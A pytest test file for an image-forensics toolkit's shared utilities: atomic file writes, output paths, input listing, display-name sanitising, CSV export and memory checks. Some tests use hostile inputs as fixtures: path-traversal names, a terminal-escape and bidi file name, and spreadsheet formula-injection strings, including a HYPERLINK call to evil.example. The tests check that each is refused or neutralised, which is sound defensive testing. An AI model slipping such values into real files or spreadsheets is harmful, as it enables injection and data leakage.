"""The shared jobs in trufor_lab.common: atomic files, output paths, input listing, tables."""

from __future__ import annotations

import os

import numpy as np
import pytest

from trufor_lab.common.files import atomic_savez, atomic_write, atomic_write_text, leftover_temporaries
from trufor_lab.common.paths import OutputPathError, display_name, expand_inputs, output_path
from trufor_lab.common.table import Table, fmt


def test_atomic_write_keeps_the_old_file_when_writing_fails(tmp_path):
    p = tmp_path / "out.txt"
    atomic_write_text(p, "old")

    def boom(f):
        f.write(b"half a fi")
        raise OSError("disk full")

    with pytest.raises(OSError):
        atomic_write(p, boom)
    assert p.read_text() == "old"
    assert [q.name for q in tmp_path.iterdir()] == ["out.txt"]  # no temporary file left behind


@pytest.mark.parametrize("name", ["last.pt", "a name longer than thirty-two bytes, é and all.pt"])
def test_the_temporaries_a_killed_write_leaves_are_found_by_their_exact_name(tmp_path, name):
    """A process killed mid-write runs no cleanup: its temporary file stays (a 114 MB
    ``.last.pt.*.tmp``); the writer's own naming finds it, and nothing else beside it."""
    import subprocess
    import sys

    code = (
        "import os, sys; from trufor_lab.common.files import atomic_write; "
        "atomic_write(sys.argv[1], lambda f: (f.write(b'half'), f.flush(), os._exit(9)))"
    )
    assert subprocess.run([sys.executable, "-c", code, str(tmp_path / name)]).returncode == 9
    (tmp,) = [p for p in tmp_path.iterdir()]
    assert leftover_temporaries(tmp_path / name) == [tmp] and tmp.read_bytes() == b"half"
    (tmp_path / ("x" + tmp.name)).write_bytes(b"")  # other names, a link: not the writer's
    (tmp_path / tmp.name.replace(".tmp", ".tmpx")).write_bytes(b"")
    os.symlink(tmp, tmp_path / (tmp.name[:-12] + "linklink.tmp"))
    assert leftover_temporaries(tmp_path / name) == [tmp]
    assert leftover_temporaries(tmp_path / "other.pt") == [] and leftover_temporaries(tmp_path / "no" / name) == []


def test_atomic_savez_writes_the_exact_name(tmp_path):
    p = atomic_savez(tmp_path / "sub" / "x.png.npz", {"map": np.ones((2, 3), np.float32)})
    assert p.name == "x.png.npz" and np.load(p)["map"].shape == (2, 3)


@pytest.mark.parametrize("name", ["../x.png", "a/../../x.png", "/etc/x.png", "C:/x.png", "", "a/.."])
def test_output_path_refuses_names_that_leave_the_folder(tmp_path, name):
    with pytest.raises(OutputPathError):
        output_path(tmp_path, name)


def test_output_path_keeps_subfolders(tmp_path):
    assert output_path(tmp_path, "a/b/x.png") == tmp_path / "a" / "b" / "x.png.npz"
    assert output_path(tmp_path, "a\\x.png", ".json") == tmp_path / "a" / "x.png.json"


def _img(path):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"\x89PNG fake")
    return path


def test_expand_inputs_names_from_the_common_root(tmp_path, monkeypatch):
    a, b = _img(tmp_path / "a" / "x.png"), _img(tmp_path / "b" / "x.png")
    monkeypatch.chdir(tmp_path)
    pairs, problems = expand_inputs(["a/x.png", "b/x.png"])
    assert problems == [] and sorted(n for _, n in pairs) == ["a/x.png", "b/x.png"]
    pairs, _ = expand_inputs([str(tmp_path / "a")])  # one folder: names inside it
    assert [n for _, n in pairs] == ["x.png"]
    pairs, _ = expand_inputs([str(a), str(a), str(tmp_path / "a")])  # a file listed twice: once
    assert len(pairs) == 1
    pairs, problems = expand_inputs([str(tmp_path / "*" / "x.png"), "missing.png"])
    assert sorted(n for _, n in pairs) == ["a/x.png", "b/x.png"]
    assert problems == ["missing.png: no such file or folder"]
    assert b.exists()


def test_inputs_that_are_not_files_say_why(tmp_path):
    """A link loop, a broken link, a pipe (whose open would block) and a file used as a folder
    were all 'no such file'; each says what it is, for the CLI and for tl.analyze alike."""
    from trufor_lab.inference.preprocess import ImageError, load_image

    (tmp_path / "loop_a").symlink_to(tmp_path / "loop_b")
    (tmp_path / "loop_b").symlink_to(tmp_path / "loop_a")
    (tmp_path / "broken").symlink_to(tmp_path / "gone.png")
    os.mkfifo(tmp_path / "pipe")
    flat = _img(tmp_path / "flat.png")
    cases = {
        "loop_a": "symbolic links form a loop",
        "broken": "broken symbolic link",
        "pipe": "not a regular file or folder",
        "flat.png/x.png": "a part of the path is not a folder",
    }
    _, problems = expand_inputs([str(tmp_path / k) for k in cases])
    assert len(problems) == len(cases)
    for (k, why), line in zip(cases.items(), problems):
        assert line.startswith(str(tmp_path / k) + ": ") and why in line, line
        with pytest.raises(ImageError, match=why):
            load_image(tmp_path / k)
    assert flat.is_file()


def test_display_name_is_safe_to_show():
    """A non-UTF-8 name crashed the report's figure title and its file write; control and bidi
    characters (a terminal escape, a name that reads backwards) reached the terminal and reports."""
    assert display_name(b"/x/bad\xe9.jpg") == "bad\ufffd.jpg"
    assert display_name("/x/" + "bad\udce9.jpg") == "bad\ufffd.jpg"
    assert display_name("evil\x1b]0;PWNED\x07\u202egpj.exe.png") == "evil?]0;PWNED??gpj.exe.png"
    "".join(display_name("a\udcff.png")).encode("utf-8")  # encodable


def test_display_name_hides_folders():
    assert display_name("/home/someone/secret/photo.jpg") == "photo.jpg"
    assert display_name("C:\\Users\\x\\p.png") == "p.png" and display_name(None) == "image"


def test_a_backslash_in_a_posix_name_is_part_of_the_name():
    """A file named 'b$\\alpha$ {x.png' (legal on POSIX) was shown as 'alpha$ {x.png', and
    'x<script>...<\\script>.jpg' as 'script>.jpg': the report and every title named another
    file. Only a Windows path (drive or server first) loses its folders at a backslash."""
    name = "b$\\alpha$ {x.png"
    assert display_name("/data/" + name) == name and display_name(name) == name  # shown twice: the same
    assert display_name("D:/cases\\2024\\p.png") == "p.png" and display_name("\\\\srv\\share\\q.png") == "q.png"


def test_table_csv_pandas_and_html(tmp_path):
    t = Table([{"name": "ré<sumé>", "f1": 0.123456}, {"name": "b", "auc": float("nan")}], title="T")
    assert t.columns == ["name", "f1", "auc"]
    text = t.to_csv(tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == text
    assert text.splitlines()[0] == "name,f1,auc" and "ré<sumé>,0.123456," in text
    df = t.to_pandas()
    assert list(df.columns) == ["name", "f1", "auc"] and df["f1"].iloc[0] == pytest.approx(0.123456)
    html = t._repr_html_()
    assert "&lt;sumé&gt;" in html and "0.1235" in html and "nan" in html
    assert fmt(None) == "" and fmt(True) == "True" and fmt(3) == "3"


def test_a_file_name_that_is_not_utf8_does_not_lose_the_table(tmp_path):
    """Python keeps the bytes of a non-UTF-8 file name as surrogates; writing a summary that
    names it failed after all the work was done. It is written escaped instead."""
    from trufor_lab.common.files import atomic_write_json

    name = b"caf\xe9.png".decode("utf-8", "surrogateescape")
    p = atomic_write_json(tmp_path / "s.json", {"image": name})
    assert "caf\\udce9.png" in p.read_text(encoding="utf-8")


def test_csv_cells_that_look_like_formulas_stay_text(tmp_path):
    """A list entry or file named '=HYPERLINK(...)' became a live formula in the per-image CSV
    opened in a spreadsheet; such text now starts with ', numbers stay numbers, and the
    evaluation reader gives the original text back."""
    from trufor_lab.common.files import csv_uncell

    rows = [{"id": '=HYPERLINK("http://evil.example/?x")', "score": -0.5}, {"id": "+cmd|' calc'!A0.png", "score": 1}]
    text = Table(rows).csv()
    assert "'=HYPERLINK" in text and "'+cmd" in text and ",-0.5" in text
    assert csv_uncell("'=HYPERLINK(1)") == "=HYPERLINK(1)" and csv_uncell("'quoted") == "'quoted"


def test_csv_cells_round_trip_every_string():
    """A value that already started with a quote and a formula character ("'=x.jpg") was left
    as it was and read back without its quote ("=x.jpg"): csv_cell / csv_uncell now give every
    string back exactly, through the csv module too, and still neutralise formulas."""
    import csv
    import io
    import itertools
    import random

    from trufor_lab.common.files import FORMULA_START, csv_cell, csv_text, csv_uncell

    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "\n", "a", " ", ",", '"', "1"]
    values = ["".join(p) for n in range(4) for p in itertools.product(alphabet, repeat=n)]
    rng = random.Random(0)
    values += ["".join(rng.choices(alphabet, k=rng.randint(4, 12))) for _ in range(2000)]
    values += ["'=x.jpg", "''=x.jpg", "'-draft.jpg", "=HYPERLINK(1).jpg", "'", "''", "'quoted", "é'=", "'\udce9=.png"]
    for v in values:
        cell = csv_cell(v)
        assert csv_uncell(cell) == v, (v, cell)
        assert not cell.startswith(FORMULA_START), (v, cell)  # never a live formula
    text = csv_text([{"image": v, "score": -0.5} for v in values], ["image", "score"])
    back = [csv_uncell(r["image"]) for r in csv.DictReader(io.StringIO(text, newline=""))]
    assert back == values
    assert csv_cell(-0.5) == -0.5 and csv_cell("plain") == "plain"


@pytest.mark.parametrize("stem", ["r" * 250, "é" * 125, "写" * 83])
def test_atomic_writes_take_names_up_to_the_file_system_limit(tmp_path, stem):
    """The temporary name was the destination's name plus about 14 bytes, so a legal name of
    241 to 255 bytes failed with 'File name too long' (after the model had run)."""
    from trufor_lab.common.files import atomic_write_path

    name = stem + ".npz"[: 255 - len(stem.encode())]
    assert 250 <= len(name.encode()) <= 255
    (tmp_path / name).write_text("plain open takes it")  # the name is legal here
    (tmp_path / name).unlink()
    p = atomic_savez(tmp_path / name, {"map": np.zeros((2, 2), np.float32)})
    assert np.load(p)["map"].shape == (2, 2)
    atomic_write_text(tmp_path / "sub" / name, "text")
    assert (tmp_path / "sub" / name).read_text() == "text"

    def fail(tmp: str) -> None:
        assert len(os.path.basename(tmp).encode()) <= 60
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        atomic_write_path(tmp_path / "sub" / name, fail)
    assert sorted(q.name for q in tmp_path.rglob("*")) == sorted([name, "sub", name])  # no temporary left


def test_appledouble_companions_are_not_images(tmp_path):
    """'._a.png' (macOS metadata beside a.png on shared drives and in zips) was listed as an
    image and failed as one."""
    from trufor_lab.common.paths import list_images

    _img(tmp_path / "a.png")
    (tmp_path / "._a.png").write_bytes(b"\x00\x05\x16\x07 metadata")
    assert [p.name for p in list_images(tmp_path)] == ["a.png"]


def test_free_memory_sees_a_limit_on_a_parent_cgroup(tmp_path, monkeypatch):
    """A memory limit may sit on a parent cgroup (a systemd slice, a pod) while the process's own
    folder says "max" (v2), or in v1's hierarchical limit: either bounds what we may allocate."""
    from trufor_lab.common import memory as M

    GiB = 2**30
    pod = tmp_path / "kubepods" / "pod1"
    ctr = pod / "ctr"
    ctr.mkdir(parents=True)
    (pod / "memory.max").write_text(f"{2 * GiB}\n")
    (pod / "memory.current").write_text(f"{GiB}\n")
    (pod / "memory.stat").write_text(f"anon 5\ninactive_file {GiB // 4}\n")
    (ctr / "memory.max").write_text("max\n")
    (ctr / "memory.current").write_text(f"{GiB // 2}\n")
    (tmp_path / "kubepods" / "memory.max").write_text("max\n")
    (tmp_path / "kubepods" / "memory.current").write_text(f"{3 * GiB}\n")
    monkeypatch.setattr(M, "_cgroup_dir", lambda: ctr)
    assert M._cgroup_headroom() == [GiB + GiB // 4]
    assert M.free_memory_bytes("cpu") <= GiB + GiB // 4
    v1 = tmp_path / "v1"
    v1.mkdir()
    (v1 / "memory.limit_in_bytes").write_text(f"{2**63 - 4096}\n")
    (v1 / "memory.usage_in_bytes").write_text(f"{GiB}\n")
    (v1 / "memory.stat").write_text(f"hierarchical_memory_limit {3 * GiB}\ntotal_inactive_file {GiB // 2}\n")
    monkeypatch.setattr(M, "_cgroup_dir", lambda: v1)
    assert M._cgroup_headroom() == [2 * GiB + GiB // 2]
    (v1 / "memory.stat").write_text(f"hierarchical_memory_limit {2**63 - 4096}\n")
    assert M._cgroup_headroom() == []


def test_callable_labels_tell_settings_apart_and_stay_stable_across_runs():
    """Two partials of one function, or two lambdas, shared a label (their name): an evaluation
    under another ablation setting reused the first one's outputs."""
    import functools
    import subprocess
    import sys

    from trufor_lab.common.callables import callable_label

    assert callable_label(functools.partial(round, ndigits=2)) != callable_label(functools.partial(round, ndigits=3))
    assert callable_label(lambda x: x + 1) != callable_label(lambda x: x + 2)
    k = 1
    assert callable_label(lambda x: x + k) != callable_label((lambda k: lambda x: x + k)(2))
    script = "import functools; from trufor_lab.common.callables import callable_label as c; print(c(functools.partial(sorted, key=lambda v: [i for i in v])))"
    # arrays by their bytes (a repr shows the edges only), plain callable objects by content
    import numpy as np
    import torch

    m1 = np.zeros((300, 300), bool)
    m2 = m1.copy()
    m2[150, 150] = True
    assert callable_label(functools.partial(round, ndigits=m1)) != callable_label(functools.partial(round, ndigits=m2))
    t = torch.zeros(50, 50)
    assert callable_label(functools.partial(round, ndigits=t)) != callable_label(
        functools.partial(round, ndigits=t + 1)
    )
    fixed = "class Fixed:\n    def __init__(self, s): self.s = s\n    def __call__(self, m, p): return self.s\n"
    script = fixed + script + "; print(c(Fixed(2)), c(Fixed(3)))"
    runs = {
        subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True).stdout
        for _ in range(2)
    }
    assert len(runs) == 1  # the same in every process (a default repr names an address)
    first, second = runs.pop().splitlines()
    two, three = second.split(" Fixed")
    assert first.startswith("sorted #") and two.startswith("Fixed #") and three != two[5:]


def test_callable_labels_tell_apart_the_globals_a_notebook_cell_reads():
    """A robustness sweep over a dataset written in a notebook cell, ``for q in (95, 20):
    evaluate(..., analyze_fn=lambda m, p: ... jpeg(q) ...)``: ``q`` is a global, not a captured
    cell, so both settings had one label and the second run reused the first one's outputs."""
    from trufor_lab.common.callables import callable_label

    cell = (
        "def perturbed(image, q):\n    return image, q\n"
        "labels = []\n"
        "for q in (95, 20, 95):\n"
        "    labels.append(c(lambda m, p: perturbed(p, q)))\n"
        "    labels.append(c(lambda m, p: [perturbed(p, s) for s in (q, 1)]))\n"  # read in a comprehension
        "def helper(m, p):\n    return perturbed(p, q)\n"
        "labels.append(c(lambda m, p: helper(m, p)))\n"  # read by a helper of the cell
        "q = 50\n"
        "labels.append(c(lambda m, p: helper(m, p)))\n"
    )
    namespace = {"c": callable_label, "__name__": "__main__"}
    exec(cell, namespace)
    first, first_comp, second, second_comp, again, again_comp, helper95, helper50 = namespace["labels"]
    assert first != second and first_comp != second_comp and helper95 != helper50
    assert first == again and first_comp == again_comp  # the same setting keeps its label (resumed runs reuse)
    # a global whose repr fails gets a label that is never matched again (recomputed, not reused)
    exec("class Bad:\n    def __repr__(self):\n        raise RuntimeError('no')\nthing = Bad()\n", namespace)
    exec("bad = [c(lambda m, p: thing), c(lambda m, p: thing)]", namespace)
    assert namespace["bad"][0].startswith("<lambda> #")
    # a library function read by name only: its module state is not the caller's setting
    assert callable_label(lambda x: callable_label(x)) == callable_label(lambda x: callable_label(x))


def test_callable_labels_ignore_a_global_that_only_shares_an_attributes_name():
    """``lambda m, p: analyze(m, p).image`` reads the attribute ``image``, not the notebook's
    global ``image``: the label changed with that global (every output of the next run
    recomputed) and hashed it whole, whatever its size."""
    from trufor_lab.common.callables import callable_label

    namespace = {"c": callable_label, "__name__": "__main__", "image": np.zeros((4, 4), np.uint8)}
    exec("first = c(lambda m, p: [r.image for r in (p,)])", namespace)
    namespace["image"] = np.ones((4, 4), np.uint8)
    exec("second = c(lambda m, p: [r.image for r in (p,)])", namespace)
    exec("third = c(lambda m, p: [image for r in (p,)])", namespace)  # the global itself is read
    namespace["image"] = np.zeros((4, 4), np.uint8)
    exec("fourth = c(lambda m, p: [image for r in (p,)])", namespace)
    assert namespace["first"] == namespace["second"] and namespace["third"] != namespace["fourth"]


def test_callable_labels_tell_apart_models_of_one_architecture_by_their_weights():
    """A model's repr shows its layers, not its weights: ``lambda m, p: analyze(other, p)``
    for two checkpoints of one architecture (captured, or a notebook's global) had one label,
    and the second evaluation reused the first model's outputs."""
    import torch

    from trufor_lab.common.callables import callable_label

    def seeded(seed):
        with torch.random.fork_rng(devices=[]):
            torch.manual_seed(seed)
            return torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4))

    def capturing(net):
        return lambda m, p: net(p)

    assert callable_label(capturing(seeded(0))) == callable_label(capturing(seeded(0)))
    assert callable_label(capturing(seeded(0))) != callable_label(capturing(seeded(1)))
    namespace = {"c": callable_label, "__name__": "__main__", "other": seeded(0)}
    exec("first = c(lambda m, p: other(p))", namespace)
    with torch.no_grad():
        namespace["other"][1].running_mean += 1  # a buffer, not a parameter, changed
    exec("second = c(lambda m, p: other(p))", namespace)
    assert namespace["first"] != namespace["second"]


def test_callable_labels_of_recursive_or_chained_notebook_helpers_are_the_same_every_run():
    """Helpers read as globals are described by content down to a depth, then by their repr,
    which names an address: a recursive helper, or a chain of three, gave the same cell a new
    label in every kernel, so a rerun never reused an output. Two namespaces stand for two runs."""
    from trufor_lab.common.callables import callable_label

    def run(last: str) -> list[str]:
        cell = (
            "def countdown(m, p, n=2):\n    return countdown(m, p, n - 1) if n else p\n"
            "def a(m, p):\n    return b(m, p)\n"
            "def b(m, p):\n    return c(m, p)\n"
            f"def c(m, p):\n    return {last}\n"
            "labels = [label(lambda m, p: countdown(m, p)), label(lambda m, p: a(m, p))]\n"
        )
        namespace = {"label": callable_label, "__name__": "__main__"}
        exec(cell, namespace)
        return namespace["labels"]

    first, again, other = run("p"), run("p"), run("m")
    assert first == again  # the same cell, run again: its outputs reused
    assert other[1] != first[1] and other[0] == first[0]  # the deepest helper's code still counts


def test_callable_labels_tell_records_apart_by_their_arrays(array_result):
    """A record's repr shows its arrays by dtype and shape only (one line in a console): two
    Results, or two loaded images, that differ in one pixel gave a callable that captures them
    one label, so an evaluation with the other reused the first one's outputs."""
    import functools

    from trufor_lab.common.callables import callable_label
    from trufor_lab.inference.preprocess import LoadedImage

    a = array_result(40, 50)
    changed = a.map.copy()
    changed[20, 25] += 0.5
    b = array_result(40, 50, map=changed)
    assert repr(a) == repr(b)  # the console line cannot tell them apart; the label must

    def with_reference(model, image, reference=None):
        return reference

    assert callable_label(functools.partial(with_reference, reference=a)) != callable_label(
        functools.partial(with_reference, reference=b)
    )
    assert callable_label(functools.partial(with_reference, reference=a)) == callable_label(
        functools.partial(with_reference, reference=array_result(40, 50))
    )
    img = np.zeros((4, 5, 3), np.uint8)
    other = img.copy()
    other[2, 2, 1] = 1
    assert callable_label(functools.partial(with_reference, reference=LoadedImage(img, "a"))) != callable_label(
        functools.partial(with_reference, reference=LoadedImage(other, "a"))
    )


def test_short_names_keep_figures_their_size():
    """A 244-character file name widened the result figure from 1260 to 2627 px."""
    from trufor_lab.common.paths import short_name, shorten

    long = "viral_" + "x" * 230 + "_final_v2.jpg"
    s = short_name("/some/folder/" + long)
    assert len(s) == 60 and s.startswith("viral_x") and s.endswith("_final_v2.jpg") and "…" in s
    assert short_name("/a/photo.jpg") == "photo.jpg" and shorten("sub/a.png") == "sub/a.png"


def test_a_long_name_does_not_widen_the_result_figure():
    import numpy as np

    from trufor_lab.inference.result import Result
    from trufor_lab.viz.figures import plot_result

    img = np.zeros((64, 64, 3), np.uint8)
    m = np.zeros((64, 64), np.float32)
    sizes = []
    for name in ("a.png", "n" * 240 + ".png"):
        fig = plot_result(Result(image=img, noiseprint=m, map=m, conf=m, score=0.1, name=name))
        fig.canvas.draw()
        sizes.append(fig.get_tightbbox().width)
    assert sizes[1] < 1.2 * sizes[0], sizes


def test_gpu_free_memory_counts_what_pytorchs_cache_holds_unused(monkeypatch):
    """mem_get_info leaves out memory PyTorch's caching allocator reserved for freed tensors:
    after one large image the next looked short of memory and took the slower lean path (its
    numbers depending on what ran before). Pretended: no GPU here."""
    import torch

    from trufor_lab.common import memory as M

    GiB = 2**30
    monkeypatch.setattr(torch.cuda, "mem_get_info", lambda d=None: (2 * GiB, 80 * GiB))
    monkeypatch.setattr(torch.cuda, "memory_reserved", lambda d=None: 30 * GiB)
    monkeypatch.setattr(torch.cuda, "memory_allocated", lambda d=None: 4 * GiB)
    assert M.free_memory_bytes("cuda:0") == 28 * GiB


def test_naming_an_unread_format_reads_only_the_files_first_bytes(tmp_path, monkeypatch):
    """To name a format not read here, Pillow's other plugins were handed the whole file: XPM's
    reads lines, and a 300 MiB file without a newline was read whole (600 MiB, 2 s) to say 'not
    an image file'."""
    from trufor_lab.common import unreadable

    path = tmp_path / "big"
    path.write_bytes(b"/* XPM */" + b"x" * (4 * 2**20))
    read = []
    real = unreadable._source

    class Counting:
        """The file, counting the bytes read from it."""

        def __init__(self, f):
            self.f = f

        def __getattr__(self, name):
            return getattr(self.f, name)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.f.close()

        def read(self, n=-1):
            out = self.f.read(n)
            read.append(len(out))
            return out

        def readline(self, n=-1):
            out = self.f.readline(n)
            read.append(len(out))
            return out

    def counted(source):
        return Counting(real(source))

    monkeypatch.setattr(unreadable, "_source", counted)
    assert unreadable.unrecognised_reason(str(path)).startswith("not an image file")
    assert 0 < sum(read) <= 2**20


@pytest.mark.parametrize(
    "name, head",
    [("weights.h5", b"\x89HDF\r\n\x1a\n"), ("forecast.grib", b"GRIB\x00\x00\x00\x01"), ("obs.bufr", b"BUFR"),
     ("clip.mpg", b"\x00\x00\x01\xb3\x01\x40\xf0\x13")],
)  # fmt: skip
def test_data_files_are_not_named_as_images_in_another_format(tmp_path, name, head):
    """An HDF5 weights file was 'an image in a format not read here: HDF5 (HDF5); convert it to
    PNG' (Pillow's stub plugins for data containers and MPEG take a file by a few bytes)."""
    from trufor_lab.common.unreadable import unrecognised_reason

    path = tmp_path / name
    path.write_bytes(head + bytes(512))
    assert unrecognised_reason(str(path)) == "not an image file (unrecognised format, or one not read here)"


@pytest.mark.parametrize(
    "name, data, says",
    [
        (
            "zero_width.gif",
            b"GIF89a" + (0).to_bytes(2, "little") + (16).to_bytes(2, "little") + b"\x00\x00\x00;",
            "a GIF",
        ),
        (
            "zero_width.qoi",
            b"qoif" + (0).to_bytes(4, "big") + (10).to_bytes(4, "big") + b"\x03\x00" + bytes(8),
            "a QOI file",
        ),
        ("zero_height.j2k", b"\xff\x4f\xff\x51\x00\x29" + bytes(40), "a JPEG 2000 file"),
        ("cut.jp2", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(20), "a JPEG 2000 file"),
    ],
)
def test_damaged_files_of_formats_read_here_are_named(tmp_path, name, data, says):
    """A zero-width GIF or a cut JPEG 2000 codestream (Pillow's test corpus) was 'not an image file
    (unrecognised format, or one not read here)', though its format is read here."""
    from trufor_lab.inference.preprocess import ImageError, load_image

    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(ImageError) as e:
        load_image(str(path))
    (line,) = str(e.value).splitlines()
    assert line.startswith(f"{path}: {says} that cannot be read ("), line
